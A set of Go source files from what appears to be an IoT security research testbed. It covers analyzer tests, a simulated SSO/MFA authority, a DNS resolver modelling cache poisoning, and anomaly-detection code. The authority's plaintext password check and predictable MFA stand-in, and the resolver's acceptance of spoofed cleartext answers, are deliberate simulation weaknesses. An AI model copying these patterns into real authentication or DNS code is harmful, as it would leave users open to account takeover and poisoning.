	if err != nil {
		t.Fatal(err)
	}
	if len(after) >= len(before) {
		t.Errorf("prune did not shrink the baseline (%d -> %d bytes)", len(before), len(after))
	}
	if !bytes.Contains(after, []byte("errdrop")) {
		t.Errorf("live waivers lost in prune:\n%s", after)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("post-prune run: exit %d\n%s%s", code, stdout.String(), stderr.String())
	}
	if strings.Contains(stderr.String(), "stale baseline waiver") {
		t.Errorf("staleness survived the prune:\n%s", stderr.String())
	}
}

// TestStrictBaseline: -strict-baseline turns stale-waiver warnings into
// a failing exit, and refuses configurations where staleness cannot be
// decided (no baseline, or a narrowed run).
func TestStrictBaseline(t *testing.T) {
	root := seedModule(t)
	base := filepath.Join(t.TempDir(), "baseline.json")

	// The flag is meaningless without a baseline file.
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-strict-baseline", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("strict without -baseline: exit %d, want 2\n%s", code, stderr.String())
	}

	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-write-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("write-baseline: exit %d\n%s", code, stderr.String())
	}

	// Nothing stale: the strict run is as clean as the lenient one.
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-strict-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("strict run with live waivers: exit %d, want 0\n%s%s", code, stdout.String(), stderr.String())
	}

	// A narrowed run skips packages, so staleness cannot be decided.
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-strict-baseline", "./internal/sim"}, &stdout, &stderr); code != 2 {
		t.Fatalf("strict on a narrowed run: exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "full-module") {
		t.Errorf("stderr = %q", stderr.String())
	}

	// Fix the simulator's wall-clock read: its waiver goes stale, and the
	// strict run now fails where the lenient one only warns.
	if err := os.WriteFile(filepath.Join(root, "internal/sim/sim.go"), []byte(`package sim

import "time"

func Now(c func() time.Time) time.Time { return c() }
`), 0o644); err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("lenient run with stale waiver: exit %d, want 0\n%s%s", code, stdout.String(), stderr.String())
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-strict-baseline", "./..."}, &stdout, &stderr); code != 1 {
		t.Fatalf("strict run with stale waiver: exit %d, want 1\n%s%s", code, stdout.String(), stderr.String())
	}
	if !strings.Contains(stderr.String(), "stale baseline waiver") || !strings.Contains(stderr.String(), "-prune-baseline") {
		t.Errorf("stderr = %q, want the strict stale-waiver failure", stderr.String())
	}

	// Pruning restores the strict gate.
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-prune-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("prune: exit %d\n%s", code, stderr.String())
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-strict-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("strict run after prune: exit %d, want 0\n%s%s", code, stdout.String(), stderr.String())
	}
}

// TestParallelAndCacheDeterminism is the tentpole acceptance check: the
// SARIF output is byte-identical at -parallel 1 and -parallel 8, with a
// cold and a warm cache — and a cached run still sees new violations.
func TestParallelAndCacheDeterminism(t *testing.T) {
	root := seedModule(t)
	cacheDir := filepath.Join(t.TempDir(), "cache")
	sarif := func(extra ...string) string {
		t.Helper()
		var stdout, stderr bytes.Buffer
		args := append([]string{"-root", root, "-sarif"}, extra...)
		args = append(args, "./...")
		if code := run(args, &stdout, &stderr); code != 1 {
			t.Fatalf("args %v: exit %d, want 1\n%s", extra, code, stderr.String())
		}
		return stdout.String()
	}
	serial := sarif("-parallel", "1")
	if par := sarif("-parallel", "8"); par != serial {
		t.Errorf("-parallel 8 output differs from -parallel 1")
	}
	if cold := sarif("-parallel", "8", "-cache-dir", cacheDir); cold != serial {
		t.Errorf("cold-cache output differs from serial run")
	}
	entries, err := os.ReadDir(cacheDir)
	if err != nil || len(entries) == 0 {
		t.Fatalf("cache dir not populated after cold run (err=%v, %d entries)", err, len(entries))
	}
	if warm := sarif("-parallel", "8", "-cache-dir", cacheDir); warm != serial {
		t.Errorf("warm-cache output differs from serial run")
	}

	// Any module change invalidates the context hash: the cached run
	// must surface the new violation, never stale results.
	if err := os.WriteFile(filepath.Join(root, "internal/sim/extra.go"), []byte(`package sim

import "time"

func Later() time.Time { return time.Now().Add(time.Second) }
`), 0o644); err != nil {
		t.Fatal(err)
	}
	after := sarif("-parallel", "8", "-cache-dir", cacheDir)
	if after == serial {
		t.Errorf("cached run served stale results after a module change")
	}
	if !strings.Contains(after, "internal/sim/extra.go") {
		t.Errorf("cached run missing the new violation:\n%s", after)
	}
}

// TestFixAppliesMechanicalEdits: -fix rewrites the variable-time tag
// compare to hmac.Equal, prunes the orphaned bytes import, and leaves a
// tree where only the non-mechanical findings remain.
func TestFixAppliesMechanicalEdits(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-fix", "./internal/dpi"}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1 (findings are still reported in the fixing run)\n%s", code, stderr.String())
	}
	if !strings.Contains(stderr.String(), "applied") {
		t.Errorf("stderr missing fix report: %q", stderr.String())
	}
	src, err := os.ReadFile(filepath.Join(root, "internal/dpi/dpi.go"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(src, []byte("hmac.Equal(")) || bytes.Contains(src, []byte("bytes.Equal(")) {
		t.Errorf("tag compare not rewritten:\n%s", src)
	}
	if bytes.Contains(src, []byte(`"bytes"`)) {
		t.Errorf("orphaned bytes import not pruned:\n%s", src)
	}

	// Re-run without -fix: the compare finding is gone; the hardcoded
	// short key (not mechanically fixable) still fails the gate.
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "./internal/dpi"}, &stdout, &stderr); code != 1 {
		t.Fatalf("post-fix exit %d, want 1\n%s", code, stderr.String())
	}
	out := stdout.String()
	if strings.Contains(out, "compared with") {
		t.Errorf("compare finding survived the fix:\n%s", out)
	}
	if !strings.Contains(out, "[cryptomisuse]") {
		t.Errorf("short-key finding missing after fix:\n%s", out)
	}
}
