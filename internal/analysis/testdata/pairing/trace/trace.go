// Package trace is a minimal stand-in for the obs tracer: Start opens a
// Region that the pairing rule requires to be ended on every path. The
// fixture type oracle resolves it, exercising the ResultType match.
package trace

// Tracer hands out regions.
type Tracer struct{}

// Region is an open interval obligation.
type Region struct{ op string }

// Start opens a region.
func (t *Tracer) Start(layer, op string) *Region { return &Region{op: op} }

// End closes a region.
func (r *Region) End(cause string) {}
