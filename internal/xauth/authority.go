package xauth

import (
	"errors"
	"fmt"
	"time"

	"xlf/internal/obs"
)

// User is an account at the cloud authority.
type User struct {
	Name     string
	Password string
	Priv     Privilege
	// MFASecret enables the second factor; empty disables MFA for the
	// account (weaker).
	MFASecret string
}

// Authority is the cloud identity provider: it authenticates users
// (password + optional MFA) and issues SSO tokens. Per §IV-A1 the
// authority combines "both SSO and MFA mechanisms" for WAN requests.
type Authority struct {
	signer *Signer
	users  map[string]User
	// DefaultLifetime is used unless a lifetime policy overrides it.
	DefaultLifetime time.Duration
	// LifetimePolicy, when set, decides per-token lifetime; the XLF Core
	// installs its correlation-driven policy here (§IV-A1: "The XLF Core
	// determines the lifetime of the authentication tokens based on the
	// correlation results").
	LifetimePolicy func(user User, deviceID string) time.Duration

	// Tracer, when set, receives an xauth-layer span per token issuance,
	// verification and refusal. Spans never carry token material — only
	// user/device names and error labels.
	Tracer *obs.Tracer

	issued  uint64
	refused uint64
}

// Authentication errors.
var (
	ErrUnknownUser  = errors.New("xauth: unknown user")
	ErrBadPassword  = errors.New("xauth: bad password")
	ErrBadMFA       = errors.New("xauth: bad MFA code")
	ErrNeedMFA      = errors.New("xauth: account requires MFA")
	ErrPrivTooLow   = errors.New("xauth: privilege too low for operation")
	ErrNotDelegated = errors.New("xauth: proxy has no cached token for user")
)

// NewAuthority creates an identity provider with a signing key.
func NewAuthority(key []byte, users []User) (*Authority, error) {
	s, err := NewSigner(key)
	if err != nil {
		return nil, err
	}
	a := &Authority{
		signer:          s,
		users:           make(map[string]User, len(users)),
		DefaultLifetime: time.Hour,
	}
	for _, u := range users {
		if u.Name == "" {
			return nil, errors.New("xauth: user with empty name")
		}
		if _, dup := a.users[u.Name]; dup {
			return nil, fmt.Errorf("xauth: duplicate user %q", u.Name)
		}
		a.users[u.Name] = u
	}
	return a, nil
}

// Signer exposes the token signer so proxies and devices can verify
// without re-contacting the cloud.
func (a *Authority) Signer() *Signer { return a.signer }

// Stats returns (tokensIssued, authRefusals).
func (a *Authority) Stats() (uint64, uint64) { return a.issued, a.refused }

// mfaCode derives the expected MFA code for a secret at a time step; a
// TOTP stand-in that is deterministic in simulation time.
func mfaCode(secret string, now time.Duration) string {
	step := int64(now / (30 * time.Second))
	return fmt.Sprintf("%s-%06d", secret, step%1000000)
}

// MFACodeFor returns the currently valid code for a user, playing the
// role of the user's authenticator app in tests and experiments.
func (a *Authority) MFACodeFor(user string, now time.Duration) (string, error) {
	u, ok := a.users[user]
	if !ok {
		return "", ErrUnknownUser
	}
	if u.MFASecret == "" {
		return "", ErrNeedMFA
	}
	return mfaCode(u.MFASecret, now), nil
}

// Authenticate verifies password (+ MFA when enrolled) and issues an SSO
// token bound to deviceID ("" = any device).
func (a *Authority) Authenticate(user, password, mfa, deviceID string, now time.Duration) (Token, error) {
	u, ok := a.users[user]
	if !ok {
		return Token{}, a.refuse(now, deviceID, user, ErrUnknownUser)
	}
	if u.Password != password {
		return Token{}, a.refuse(now, deviceID, user, ErrBadPassword)
	}
	mfaOK := false
	if u.MFASecret != "" {
		if mfa == "" {
			return Token{}, a.refuse(now, deviceID, user, ErrNeedMFA)
		}
		if mfa != mfaCode(u.MFASecret, now) {
			return Token{}, a.refuse(now, deviceID, user, ErrBadMFA)
		}
		mfaOK = true
	}
	lifetime := a.DefaultLifetime
	if a.LifetimePolicy != nil {
		lifetime = a.LifetimePolicy(u, deviceID)
	}
	a.issued++
	if a.Tracer != nil {
		a.Tracer.EmitSpan(obs.Span{
			Time: now, Dur: lifetime, Layer: obs.LayerXAuth,
			Op: "token-issue", Device: deviceID, Detail: user,
		})
	}
	return a.signer.Issue(user, deviceID, u.Priv, mfaOK, now, lifetime), nil
}

// refuse counts and traces one authentication refusal.
func (a *Authority) refuse(now time.Duration, deviceID, user string, err error) error {
	a.refused++
	if a.Tracer != nil {
		a.Tracer.EmitSpan(obs.Span{
			Time: now, Layer: obs.LayerXAuth, Op: "auth-refuse",
			Device: deviceID, Cause: err.Error(), Detail: user,
		})
	}
	return err
}

// Authorize validates a token for an operation requiring minPriv.
// Firmware updates require Advanced + MFA, per the paper's split between
// basic and advanced users.
func (a *Authority) Authorize(t Token, minPriv Privilege, deviceID string, now time.Duration) error {
	if err := a.signer.Verify(t, now, deviceID); err != nil {
		return a.refuse(now, deviceID, t.Subject, err)
	}
	if t.Priv < minPriv {
		return a.refuse(now, deviceID, t.Subject, ErrPrivTooLow)
	}
	if minPriv >= Advanced && !t.MFA {
		return a.refuse(now, deviceID, t.Subject, ErrNeedMFA)
	}
	if a.Tracer != nil {
		a.Tracer.EmitSpan(obs.Span{
			Time: now, Layer: obs.LayerXAuth, Op: "token-verify",
			Device: deviceID, Detail: t.Subject,
		})
	}
	return nil
}
