package netsim

import (
	"fmt"
	"time"
)

// DNS in the testbed: an authoritative server on the WAN, a stub resolver
// in the gateway with a cache, and the attack surface the paper calls out
// (§IV-A3): cleartext queries identify devices; cache poisoning redirects
// hard-coded vendor domains.

// DNSRecord maps a name to an address with a TTL.
type DNSRecord struct {
	Name string
	Addr Addr
	TTL  time.Duration
}

// DNSServer is an authoritative resolver on the WAN.
type DNSServer struct {
	Address Addr
	records map[string]DNSRecord
	queries uint64
}

var _ Node = (*DNSServer)(nil)

// NewDNSServer creates a server with the given records.
func NewDNSServer(addr Addr, records []DNSRecord) *DNSServer {
	s := &DNSServer{Address: addr, records: make(map[string]DNSRecord)}
	for _, r := range records {
		s.records[r.Name] = r
	}
	return s
}

// Addr implements Node.
func (s *DNSServer) Addr() Addr { return s.Address }

// AddRecord installs or replaces a record.
func (s *DNSServer) AddRecord(r DNSRecord) { s.records[r.Name] = r }

// Queries returns the number of queries served.
func (s *DNSServer) Queries() uint64 { return s.queries }

// Handle implements Node: answer DNS queries.
func (s *DNSServer) Handle(net *Network, pkt *Packet) {
	if pkt.Proto != "DNS" && pkt.Proto != "DoT" {
		return
	}
	s.queries++
	rec, ok := s.records[pkt.DNSName]
	resp := &Packet{
		Src: s.Address, Dst: pkt.Src,
		SrcPort: 53, DstPort: pkt.SrcPort,
		Proto: pkt.Proto, Size: 120, DNSName: pkt.DNSName,
		Encrypted: pkt.Proto == "DoT",
		App:       "dns-response",
	}
	if ok {
		resp.Payload = []byte(rec.Addr)
	} else {
		resp.Payload = []byte("NXDOMAIN")
	}
	net.Send(resp)
}

// cacheEntry is a resolver cache line.
type cacheEntry struct {
	addr    Addr
	expires time.Duration
	// poisoned marks entries injected by an off-path attacker; ground
	// truth for the E7 experiment.
	poisoned bool
}

// Resolver is the gateway-resident stub resolver with a cache. Lookups are
// asynchronous: the caller provides a callback.
type Resolver struct {
	Address  Addr
	Upstream Addr
	// Proto selects the transport: "DNS" (cleartext), "DoT" (encrypted to
	// the upstream), or "XLF-DNS" (lightweight-encrypted to the XLF core
	// bridge; see internal/dnsp).
	Proto string

	cache   map[string]cacheEntry
	pending map[string][]func(Addr, error)
	net     *Network

	hits, misses uint64
	poisonedHits uint64
}

var _ Node = (*Resolver)(nil)

// NewResolver creates a resolver node.
func NewResolver(addr, upstream Addr, protocol string) *Resolver {
	return &Resolver{
		Address:  addr,
		Upstream: upstream,
		Proto:    protocol,
		cache:    make(map[string]cacheEntry),
		pending:  make(map[string][]func(Addr, error)),
	}
}

// Addr implements Node.
func (r *Resolver) Addr() Addr { return r.Address }

// Stats returns (cacheHits, upstreamQueries, poisonedAnswersServed).
func (r *Resolver) Stats() (uint64, uint64, uint64) { return r.hits, r.misses, r.poisonedHits }

// Lookup resolves a name, consulting the cache first. The callback fires
// (possibly synchronously on a cache hit) with the address or an error.
func (r *Resolver) Lookup(net *Network, name string, cb func(Addr, error)) {
	if e, ok := r.cache[name]; ok && net.Kernel().Now() < e.expires {
		r.hits++
		if e.poisoned {
			r.poisonedHits++
		}
		cb(e.addr, nil)
		return
	}
	r.net = net
	r.pending[name] = append(r.pending[name], cb)
	if len(r.pending[name]) > 1 {
		return // query already in flight
	}
	r.misses++
	q := &Packet{
		Src: r.Address, Dst: r.Upstream,
		SrcPort: 5353, DstPort: 53,
		Proto: protoWire(r.Proto), Size: 80, DNSName: name,
		Encrypted: r.Proto != "DNS",
		App:       "dns-query",
	}
	net.Send(q)
}

// protoWire maps the resolver mode to the on-wire protocol label.
func protoWire(mode string) string {
	if mode == "XLF-DNS" {
		return "DoT" // core bridge re-encrypts upstream as DoT
	}
	return mode
}

// Handle implements Node: receive upstream responses and poison attempts.
func (r *Resolver) Handle(net *Network, pkt *Packet) {
	if pkt.DNSName == "" {
		return
	}
	// Responses with no matching outstanding query are ignored — which is
	// exactly why winning the race against the legitimate answer is enough
	// for an off-path poisoner: the real response arrives second and is
	// discarded here.
	if _, waiting := r.pending[pkt.DNSName]; !waiting {
		return
	}
	isUpstream := pkt.Src == r.Upstream
	if !isUpstream {
		// Off-path spoofed response. Cleartext UDP DNS accepts it (the
		// classic cache-poisoning weakness); encrypted transports reject
		// forgeries that lack the channel.
		if r.Proto != "DNS" {
			return
		}
	}
	addr := Addr(pkt.Payload)
	if string(pkt.Payload) == "NXDOMAIN" {
		r.finish(pkt.DNSName, "", fmt.Errorf("netsim: NXDOMAIN for %q", pkt.DNSName))
		return
	}
	r.cache[pkt.DNSName] = cacheEntry{
		addr:     addr,
		expires:  net.Kernel().Now() + 5*time.Minute,
		poisoned: !isUpstream,
	}
	r.finish(pkt.DNSName, addr, nil)
}

func (r *Resolver) finish(name string, addr Addr, err error) {
	cbs := r.pending[name]
	delete(r.pending, name)
	for _, cb := range cbs {
		cb(addr, err)
	}
}

// FlushCache clears the cache (remediation after detected poisoning).
func (r *Resolver) FlushCache() { r.cache = make(map[string]cacheEntry) }

// CacheSnapshot returns name -> (addr, poisoned) for inspection.
func (r *Resolver) CacheSnapshot() map[string]struct {
	Addr     Addr
	Poisoned bool
} {
	out := make(map[string]struct {
		Addr     Addr
		Poisoned bool
	}, len(r.cache))
	for k, v := range r.cache {
		out[k] = struct {
			Addr     Addr
			Poisoned bool
		}{v.addr, v.poisoned}
	}
	return out
}
