// Package analytics provides the statistical primitives behind XLF's
// security analytics (§IV-C3): streaming baselines (EWMA mean/variance),
// z-score anomaly detection, CUSUM change detection, time-of-day activity
// profiles, and multi-domain contextual correlation (device state x
// network rate x third-party context such as weather), which the XLF Core
// composes into its cross-layer evaluations.
package analytics

import (
	"errors"
	"fmt"
	"math"
	"time"
)

// EWMA is an exponentially weighted moving average with a variance
// estimate, the standard streaming baseline for per-device metrics.
type EWMA struct {
	alpha    float64
	mean     float64
	variance float64
	n        int
}

// NewEWMA creates a baseline with smoothing factor alpha in (0, 1].
func NewEWMA(alpha float64) (*EWMA, error) {
	if alpha <= 0 || alpha > 1 {
		return nil, fmt.Errorf("analytics: alpha %v out of (0,1]", alpha)
	}
	return &EWMA{alpha: alpha}, nil
}

// Update absorbs an observation.
func (e *EWMA) Update(v float64) {
	e.n++
	if e.n == 1 {
		e.mean = v
		return
	}
	d := v - e.mean
	e.mean += e.alpha * d
	e.variance = (1 - e.alpha) * (e.variance + e.alpha*d*d)
}

// Mean returns the current baseline.
func (e *EWMA) Mean() float64 { return e.mean }

// Std returns the baseline standard deviation.
func (e *EWMA) Std() float64 { return math.Sqrt(e.variance) }

// Count returns the number of observations absorbed.
func (e *EWMA) Count() int { return e.n }

// ZScore standardises v against the baseline. With too little history or
// zero variance it returns 0 (no judgement).
func (e *EWMA) ZScore(v float64) float64 {
	if e.n < 5 {
		return 0
	}
	sd := e.Std()
	if sd == 0 {
		if v == e.mean {
			return 0
		}
		return math.Inf(1)
	}
	return (v - e.mean) / sd
}

// CUSUM is a cumulative-sum change detector: it accumulates deviations
// above a slack k and alarms when the sum crosses threshold h; good for
// the slow drifts a z-score misses (e.g., a sensor's CPU creeping up).
type CUSUM struct {
	k, h   float64
	target float64
	sPos   float64
	sNeg   float64
}

// NewCUSUM builds a detector around a target value with slack k and
// threshold h.
func NewCUSUM(target, k, h float64) (*CUSUM, error) {
	if k < 0 || h <= 0 {
		return nil, errors.New("analytics: CUSUM needs k >= 0, h > 0")
	}
	return &CUSUM{k: k, h: h, target: target}, nil
}

// Update absorbs an observation and reports whether a change alarm fires
// (the detector resets after alarming).
func (c *CUSUM) Update(v float64) bool {
	c.sPos = math.Max(0, c.sPos+v-c.target-c.k)
	c.sNeg = math.Max(0, c.sNeg+c.target-v-c.k)
	if c.sPos > c.h || c.sNeg > c.h {
		c.sPos, c.sNeg = 0, 0
		return true
	}
	return false
}

// DayProfile is an hour-of-day activity baseline: devices in static home
// deployments have strongly diurnal patterns, so per-hour baselines are a
// better normal model than a single global one.
type DayProfile struct {
	hours [24]*EWMA
}

// NewDayProfile builds per-hour EWMA baselines.
func NewDayProfile(alpha float64) (*DayProfile, error) {
	p := &DayProfile{}
	for i := range p.hours {
		e, err := NewEWMA(alpha)
		if err != nil {
			return nil, err
		}
		p.hours[i] = e
	}
	return p, nil
}

// hourOf maps a simulation offset to an hour-of-day (epoch = midnight).
func hourOf(t time.Duration) int {
	return int(t/time.Hour) % 24
}

// Update absorbs an observation at simulated time t.
func (p *DayProfile) Update(t time.Duration, v float64) {
	p.hours[hourOf(t)].Update(v)
}

// ZScore judges v against the matching hour's baseline.
func (p *DayProfile) ZScore(t time.Duration, v float64) float64 {
	return p.hours[hourOf(t)].ZScore(v)
}

// Context is the third-party signal bundle of §IV-C3's example: outside
// temperature from a weather service and whether any resident's phone is
// home.
type Context struct {
	OutdoorTempF float64
	UserHome     bool
}

// ContextRule scores a (deviceID, event, value, context) observation in
// [0, 1]; 0 is normal. Rules encode cross-domain consistency: "window
// opened by the climate app while it is freezing outside and nobody is
// home" is suspicious even though every individual layer looks fine.
type ContextRule struct {
	Name  string
	Score func(deviceID, event string, value float64, ctx Context) float64
}

// Correlator applies contextual rules and keeps per-device baselines.
type Correlator struct {
	rules []ContextRule
}

// NewCorrelator creates a correlator with the given rules.
func NewCorrelator(rules []ContextRule) *Correlator {
	return &Correlator{rules: append([]ContextRule(nil), rules...)}
}

// Finding is one contextual anomaly.
type Finding struct {
	Rule     string
	DeviceID string
	Event    string
	Score    float64
}

// Evaluate runs every rule; findings with score > 0 are returned.
func (c *Correlator) Evaluate(deviceID, event string, value float64, ctx Context) []Finding {
	var out []Finding
	for _, r := range c.rules {
		if s := r.Score(deviceID, event, value, ctx); s > 0 {
			out = append(out, Finding{Rule: r.Name, DeviceID: deviceID, Event: event, Score: s})
		}
	}
	return out
}

// HomeRules returns the built-in contextual rules for the smart-home
// testbed, including the paper's thermostat/window abuse example.
func HomeRules() []ContextRule {
	return []ContextRule{
		{
			Name: "window-open-vs-weather",
			Score: func(deviceID, event string, value float64, ctx Context) float64 {
				// The §IV-C3 scenario: the climate automation opens the
				// window because the *indoor* temperature spiked; if the
				// outdoor reading is cold, someone is likely manipulating
				// the indoor sensor's environment.
				if event != "open" && event != "unlock" {
					return 0
				}
				if ctx.OutdoorTempF < 50 {
					s := (50 - ctx.OutdoorTempF) / 50
					if !ctx.UserHome {
						s += 0.3
					}
					return math.Min(1, s)
				}
				return 0
			},
		},
		{
			Name: "actuation-while-away",
			Score: func(deviceID, event string, value float64, ctx Context) float64 {
				if ctx.UserHome {
					return 0
				}
				switch event {
				case "unlock", "open", "disable":
					return 0.8
				default:
					return 0
				}
			},
		},
	}
}
