package analysis

import (
	"os"
	"path/filepath"
	"testing"
)

func baselineFinding(file, rule, message string) Finding {
	return Finding{File: file, Rule: rule, Message: message}
}

// TestBaselineDuplicateKeys pins the documented collapse: several
// findings with the same (file, rule, message) key become one entry,
// and that one entry suppresses all of them.
func TestBaselineDuplicateKeys(t *testing.T) {
	dup := baselineFinding("a.go", "r", "m")
	b := NewBaseline([]Finding{dup, dup, dup, baselineFinding("b.go", "r", "m")})

	path := filepath.Join(t.TempDir(), "base.json")
	if err := b.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(loaded.entries); got != 2 {
		t.Fatalf("duplicate keys produced %d entries, want 2", got)
	}
	kept, suppressed := loaded.Filter([]Finding{dup, dup, dup})
	if len(kept) != 0 || suppressed != 3 {
		t.Fatalf("Filter(kept=%d, suppressed=%d), want (0, 3)", len(kept), suppressed)
	}
	// A stale-entry scan against only the duplicates leaves b.go stale.
	if stale := loaded.Unmatched([]Finding{dup}); len(stale) != 1 || stale[0] != "b.go: [r] m" {
		t.Fatalf("Unmatched = %q, want the b.go entry", stale)
	}
}

// TestBaselineMergePreservesJustifications pins the -write-baseline
// refreeze path: justifications survive the Merge of the old file into
// the re-frozen set, entries that vanished do not resurrect, and new
// entries start unjustified.
func TestBaselineMergePreservesJustifications(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "base.json")

	old := NewBaseline([]Finding{
		baselineFinding("a.go", "r", "m"),
		baselineFinding("gone.go", "r", "m"),
	})
	old.entries[baselineKey{"a.go", "r", "m"}] = "reviewed: demo key"
	if err := old.WriteFile(path); err != nil {
		t.Fatal(err)
	}

	prior, err := LoadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	fresh := NewBaseline([]Finding{
		baselineFinding("a.go", "r", "m"),
		baselineFinding("new.go", "r", "m"),
	})
	fresh.Merge(prior)
	if err := fresh.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	reloaded, err := LoadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := reloaded.entries[baselineKey{"a.go", "r", "m"}]; got != "reviewed: demo key" {
		t.Fatalf("justification lost across refreeze: %q", got)
	}
	if _, ok := reloaded.entries[baselineKey{"gone.go", "r", "m"}]; ok {
		t.Fatal("entry absent from the fresh findings resurrected through Merge")
	}
	if got := reloaded.entries[baselineKey{"new.go", "r", "m"}]; got != "" {
		t.Fatalf("new entry gained a justification from nowhere: %q", got)
	}
	// Merging nil must be a no-op, not a panic.
	fresh.Merge(nil)
}

// TestBaselineEmptyRoundTrip pins the empty file: zero findings write a
// loadable file that suppresses nothing, prunes nothing, and has no
// stale entries.
func TestBaselineEmptyRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "empty.json")
	if err := NewBaseline(nil).WriteFile(path); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != "[]\n" {
		t.Fatalf("empty baseline serialized as %q, want %q", data, "[]\n")
	}
	b, err := LoadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	f := baselineFinding("a.go", "r", "m")
	if kept, suppressed := b.Filter([]Finding{f}); len(kept) != 1 || suppressed != 0 {
		t.Fatalf("empty baseline suppressed a finding (kept=%d, suppressed=%d)", len(kept), suppressed)
	}
	if stale := b.Unmatched(nil); len(stale) != 0 {
		t.Fatalf("empty baseline has stale entries: %q", stale)
	}
	if removed := b.Prune(nil); removed != 0 {
		t.Fatalf("empty baseline pruned %d entries, want 0", removed)
	}
}

// TestBaselinePruneKeepsJustifiedLiveEntries pins Prune's scope: only
// unmatched entries go; live ones keep their justifications.
func TestBaselinePruneKeepsJustifiedLiveEntries(t *testing.T) {
	live := baselineFinding("live.go", "r", "m")
	b := NewBaseline([]Finding{live, baselineFinding("dead.go", "r", "m")})
	b.entries[baselineKey{"live.go", "r", "m"}] = "reviewed"
	if removed := b.Prune([]Finding{live}); removed != 1 {
		t.Fatalf("Prune removed %d, want 1", removed)
	}
	if got := b.entries[baselineKey{"live.go", "r", "m"}]; got != "reviewed" {
		t.Fatalf("Prune dropped a live entry's justification: %q", got)
	}
	if len(b.entries) != 1 {
		t.Fatalf("Prune left %d entries, want 1", len(b.entries))
	}
}
