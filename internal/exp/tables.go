package exp

import (
	"fmt"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/channel"
	"xlf/internal/core"
	"xlf/internal/device"
	"xlf/internal/lwc"
	"xlf/internal/metrics"
	"xlf/internal/proto"
	"xlf/internal/testbed"
)

// runTable1 regenerates the paper's Table I and extends it with the
// feasibility analysis the table exists to support: per device, the
// cheapest Table III cipher that fits, and modeled AES-128 software time —
// computation, storage and power "limit the security functions that can be
// implemented on the device".
//
// It is the T1 registry entry.
func runTable1(env *Env) *Result {
	r := &Result{ID: "T1", Title: "Device-layer components (paper Table I) + crypto feasibility"}
	reg := lwc.NewRegistry()
	aes, _ := reg.Lookup("AES")

	t := metrics.NewTable("", "Device", "Freq", "RAM", "Class", "Cheapest cipher", "Session cipher", "AES ms/KB", "Best ms/KB")
	fitsCount := 0
	for _, p := range device.Table1() {
		aesCost := device.CostModel(p, aes.CyclesPerByte, aes.RAMBytes)
		afford := device.AffordableCiphers(p, reg)
		best := "(none fits)"
		bestMs := "-"
		if len(afford) > 0 {
			best = afford[0].Name
			c := device.CostModel(p, afford[0].CyclesPerByte, afford[0].RAMBytes)
			bestMs = fmt.Sprintf("%.3g", c.SecondsPerKB*1e3)
			fitsCount++
		}
		aesMs := "-"
		if aesCost.Fits {
			aesMs = fmt.Sprintf("%.3g", aesCost.SecondsPerKB*1e3)
		}
		// What the XLF channel would actually negotiate for a session
		// (strongest affordable >= 128-bit key, >= 64-bit block).
		session := "(none)"
		if info, err := channel.Negotiate(p, reg); err == nil {
			session = fmt.Sprintf("%s-%d", info.Name, info.DefaultKeyBits())
		}
		t.AddRow(p.Name, hzShort(p.CoreHz), memShort(p.RAMBytes),
			p.DeviceClass().String(), best, session, aesMs, bestMs)
	}
	// Energy ablation: battery life of the bulb-class device under a
	// 1 KB/min encryption duty cycle, per cipher — the power column of
	// Table I made quantitative.
	et := metrics.NewTable("", "Cipher on bulb", "uJ/KB", "Battery days @1KB/min")
	bulb, err := device.ProfileByName("Philips Hue Lightbulb")
	if err != nil {
		r.Output = err.Error()
		return r
	}
	for _, name := range []string{"AES", "PRESENT", "TEA", "LEA", "3DES"} {
		info, ok := reg.Lookup(name)
		if !ok {
			continue
		}
		c := device.CostModel(bulb, info.CyclesPerByte, info.RAMBytes)
		if !c.Fits {
			et.AddRow(name, "-", "(does not fit)")
			continue
		}
		// 2 Ah @ 3 V battery = 2.16e10 uJ; duty = 1 KB/min.
		const batteryUJ = 2.0 * 3600 * 3 * 1e6
		perDay := c.MicroJoulePerKB * 60 * 24
		days := batteryUJ / perDay
		et.AddRow(name, fmt.Sprintf("%.1f", c.MicroJoulePerKB), fmt.Sprintf("%.0f", days))
		r.num("battery_days_"+name, days)
	}

	r.Output = device.FormatTable1() +
		"\nFeasibility (cost model; see DESIGN.md substitutions):\n" + t.String() +
		"\nEnergy ablation (crypto-only draw; radios excluded):\n" + et.String()
	r.num("rows", float64(t.Rows()))
	r.num("devices_with_cipher", float64(fitsCount))
	return r
}

func hzShort(v float64) string {
	switch {
